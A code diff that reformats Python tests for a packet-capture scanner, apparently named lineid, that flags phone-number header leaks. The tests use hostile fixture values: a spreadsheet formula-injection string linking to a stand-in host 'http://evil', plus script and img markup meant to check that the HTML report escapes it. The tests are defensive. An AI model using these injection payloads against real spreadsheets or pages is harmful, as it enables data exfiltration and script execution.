@@ -42,8 +42,16 @@ def test_scan_writes_every_output_and_a_manifest_with_hashes(tmp_path: Path, lea
     code, _ = run("scan", str(leaky), "-o", str(tmp_path / "out"), "--quiet")
     out = tmp_path / "out"
     assert code == 1  # a high-confidence finding, --fail-on medium by default
-    for name in ("report.html", "findings.parquet", "findings.csv", "findings.jsonl", "messages.parquet",
-                 "headers.parquet", "anomalies.parquet", "manifest.json"):
+    for name in (
+        "report.html",
+        "findings.parquet",
+        "findings.csv",
+        "findings.jsonl",
+        "messages.parquet",
+        "headers.parquet",
+        "anomalies.parquet",
+        "manifest.json",
+    ):
         assert (out / name).is_file(), name
     assert not [p for p in out.iterdir() if p.name.startswith(".lineid-partial")]
     manifest = json.loads((out / "manifest.json").read_text())
@@ -89,8 +97,12 @@ def test_same_inputs_give_byte_identical_findings_files(tmp_path: Path, leaky: P
 
 
 def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
-    capture = write_capture(tmp_path / "f.pcap", f"X-MSISDN: =HYPERLINK(\"http://evil\",\"{MSISDN}\")",
-                            f"msisdn: +{MSISDN}", f"x-nokia-msisdn: @{MSISDN}")
+    capture = write_capture(
+        tmp_path / "f.pcap",
+        f'X-MSISDN: =HYPERLINK("http://evil","{MSISDN}")',
+        f"msisdn: +{MSISDN}",
+        f"x-nokia-msisdn: @{MSISDN}",
+    )
     run("scan", str(capture), "-o", str(tmp_path / "out"), "--quiet")
     frame = pd.read_csv(tmp_path / "out" / "findings.csv", dtype=str, keep_default_na=False)
     assert len(frame) >= 3
@@ -111,11 +123,25 @@ def test_report_redacts_by_default_and_exports_do_not(tmp_path: Path, leaky: Pat
 def chromium_dom(page: Path, tmp_path: Path) -> str:
     assert CHROMIUM is not None
     result = subprocess.run(
-        [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
-         "--disable-background-networking", "--disable-component-update", "--disable-sync",
-         f"--user-data-dir={tmp_path / 'chromium-profile'}", "--virtual-time-budget=2000", "--dump-dom",
-         page.as_uri()],
-        capture_output=True, text=True, timeout=120, check=True,
+        [
+            CHROMIUM,
+            "--headless",
+            "--no-sandbox",
+            "--disable-gpu",
+            "--disable-quic",
+            "--no-first-run",
+            "--disable-background-networking",
+            "--disable-component-update",
+            "--disable-sync",
+            f"--user-data-dir={tmp_path / 'chromium-profile'}",
+            "--virtual-time-budget=2000",
+            "--dump-dom",
+            page.as_uri(),
+        ],
+        capture_output=True,
+        text=True,
+        timeout=120,
+        check=True,
     )
     return result.stdout
 
@@ -128,4 +154,4 @@ def test_hostile_header_value_renders_as_text_and_no_script_runs(tmp_path: Path)
     dom = chromium_dom(tmp_path / "out" / "report.html", tmp_path)
     assert "<title>lineid report</title>" in dom and "PWNED" in dom  # present, but only as text
     assert "&lt;script&gt;document.title='PWNED'&lt;/script&gt;" in dom
-    assert "<script" not in dom and "<img src=\"x\"" not in dom and "<b>447" not in dom
+    assert "<script" not in dom and '<img src="x"' not in dom and "<b>447" not in dom
